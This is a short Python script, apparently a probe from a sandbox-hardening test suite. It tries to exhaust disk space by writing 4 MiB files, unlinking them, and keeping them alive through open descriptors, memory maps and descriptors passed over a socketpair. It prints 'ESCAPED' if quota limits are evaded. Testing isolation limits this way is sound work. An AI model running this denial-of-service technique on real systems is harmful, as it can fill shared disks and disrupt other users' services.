# Tries: to fill the disk with files that it has removed and still holds: open, mapped, and on their way to itself.
# Earns: nothing
# Goal: denial

# %%
import mmap
import os
import socket
import time

mine, mine_too = socket.socketpair()
held, size = [], 0
try:
    for number in range(60):
        fd = os.open(f"removed{number}", os.O_RDWR | os.O_CREAT)
        os.unlink(f"removed{number}")
        size += os.write(fd, bytes(2**22))
        if number % 3 == 0:
            held.append(fd)
        elif number % 3 == 1:
            held.append(mmap.mmap(fd, 4096))
            os.close(fd)
        else:
            socket.send_fds(mine, [b"x"], [fd])
            os.close(fd)
    time.sleep(1)
    if size > 128 * 2**20:
        print("ESCAPED")
except OSError:
    pass
